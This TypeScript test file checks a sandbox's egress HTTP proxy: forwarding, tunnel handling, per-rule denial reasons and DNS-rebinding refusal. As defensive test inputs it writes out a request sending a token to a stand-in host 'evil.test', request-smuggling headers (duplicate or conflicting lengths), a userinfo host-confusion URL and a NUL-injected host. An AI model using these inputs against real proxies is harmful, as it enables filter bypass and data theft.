import { strict as assert } from 'node:assert';
import { createServer as createHttpServer } from 'node:http';
import { connect } from 'node:net';
import { describe, it, type TestContext } from 'node:test';

import type { HostLookup } from 'sandbox-core';

import { openEgress } from '../../support/egress';
import { policyOf } from '../../support/policies';
import { echoServer, exchange, listen } from '../../support/raw-socket';

/** A proxy before a web server and an echo server on loopback; good.test leads to them, rebind.test does too but may not. */
async function setUp(context: TestContext) {
  const cleanup = { after: (undo: () => void) => context.after(undo) };
  const requests: string[] = [];
  const web = createHttpServer((request, response) => {
    requests.push(`${request.method} ${request.headers.host} ${request.url} ${JSON.stringify(request.headers['proxy-authorization'] ?? request.headers['proxy-connection'] ?? '')}`);
    response.end('hello');
  });
  const webPort = await listen(web, cleanup);
  const echoPort = await listen(echoServer(), cleanup);
  const allowedDomains = [`good.test:${webPort}`, `good.test:${echoPort}`, `rebind.test:${webPort}`, '127.0.0.1'];
  const policy = policyOf({ network: { allowedDomains, deniedDomains: ['bad.test'], deniedDomainReasons: { 'bad.test': 'use the mirror' } } });
  const lookup: HostLookup = (name) => Promise.resolve([{ address: name === 'rebind.test' ? '127.0.0.2' : '127.0.0.1', family: 4 }]);
  const { proxyPort, denials } = await openEgress(context, { policy, lookup });
  return { proxyPort, webPort, echoPort, requests, denials };
}

const statusLines = (answer: string): string[] => answer.match(/HTTP\/1\.1 .*/g) ?? [];

describe('the HTTP proxy', () => {
  it('forwards absolute-form requests, with the Host of the URL and without what was meant for the proxy', async (context) => {
    const { proxyPort, webPort, requests } = await setUp(context);
    const answer = await exchange(proxyPort, `GET http://good.test:${webPort}/a?b=c HTTP/1.1\r\nHost: evil.test\r\nProxy-Authorization: Basic eA==\r\nProxy-Connection: close\r\nConnection: close\r\n\r\n`);
    assert.match(answer, /^HTTP\/1\.1 200 OK[^]*hello/);
    assert.deepEqual(requests, [`GET good.test:${webPort} /a?b=c ""`]);
  });

  it('judges every request of a kept-alive connection', async (context) => {
    const { proxyPort, webPort, denials } = await setUp(context);
    const answer = await exchange(proxyPort, `GET http://good.test:${webPort}/ HTTP/1.1\r\nHost: good.test\r\n\r\nGET http://evil.test/secret?token=x HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n`);
    assert.deepEqual(statusLines(answer).map((line) => line.trim()), ['HTTP/1.1 200 OK', 'HTTP/1.1 403 no entry of allowedDomains covers it']);
    assert.deepEqual(denials.map(({ operation, target }) => `${operation} ${target}`), ['request GET http://evil.test/secret']);
  });

  it('opens tunnels to allowed hosts and passes early bytes on', async (context) => {
    const { proxyPort, echoPort } = await setUp(context);
    const received = await new Promise<string>((resolve) => {
      let text = '';
      const socket = connect(proxyPort, '127.0.0.1', () => socket.write(`CONNECT good.test:${echoPort} HTTP/1.1\r\nHost: good.test\r\n\r\nearly`));
      socket.setEncoding('utf8').on('data', (chunk: string) => {
        text += chunk;
        if (text.endsWith('early')) socket.end('late');
      });
      socket.on('end', () => resolve(text));
    });
    assert.equal(received, 'HTTP/1.1 200 Connection established\r\n\r\nearlylate');
  });

  it('refuses tunnels with the rule\'s reason in the status line', async (context) => {
    const { proxyPort, denials } = await setUp(context);
    const answer = await exchange(proxyPort, 'CONNECT bad.test:443 HTTP/1.1\r\nHost: bad.test\r\n\r\n');
    assert.match(answer, /^HTTP\/1\.1 403 use the mirror\r\nX-Proxy-Error: blocked-by-allowlist\r\n[^]*bad\.test:443 is blocked by the sandbox policy: use the mirror\n$/);
    assert.deepEqual(denials.map(({ operation, target }) => `${operation} ${target}`), ['connect bad.test:443']);
  });

  it('refuses an allowed name that leads inside', async (context) => {
    const { proxyPort, webPort } = await setUp(context);
    assert.match(await exchange(proxyPort, `CONNECT rebind.test:${webPort} HTTP/1.1\r\nHost: x\r\n\r\n`), /^HTTP\/1\.1 403 resolved to a loopback address/);
    assert.match(await exchange(proxyPort, `GET http://rebind.test:${webPort}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`), /^HTTP\/1\.1 403 [^]*resolved to a loopback address/);
  });

  for (const [what, head] of Object.entries({
    'an origin-form target': 'GET / HTTP/1.1\r\nHost: good.test\r\n\r\n',
    'another scheme': 'GET ftp://good.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n',
    'credentials in the URL': 'GET http://good.test@evil.test/ HTTP/1.1\r\nHost: x\r\n\r\n',
    'a tunnel without a port': 'CONNECT good.test HTTP/1.1\r\nHost: x\r\n\r\n',
    'a tunnel to port 0': 'CONNECT good.test:0 HTTP/1.1\r\nHost: x\r\n\r\n',
    'a tunnel to a port with a sign': 'CONNECT good.test:+443 HTTP/1.1\r\nHost: x\r\n\r\n',
    'a host with a NUL': 'CONNECT evil\0.good.test:443 HTTP/1.1\r\nHost: x\r\n\r\n',
    'two lengths': 'POST http://good.test/ HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n',
    'a length and chunks': 'POST http://good.test/ HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n',
  }))
    it(`does not serve ${what}`, async (context) => {
      const { proxyPort, requests } = await setUp(context);
      const answer = await exchange(proxyPort, head.replace('\r\n\r\n', '\r\nConnection: close\r\n\r\n'));
      assert.deepEqual(statusLines(answer).filter((line) => !/ 4\d\d /.test(line)), []);
      assert.deepEqual(requests, []);
    });
});
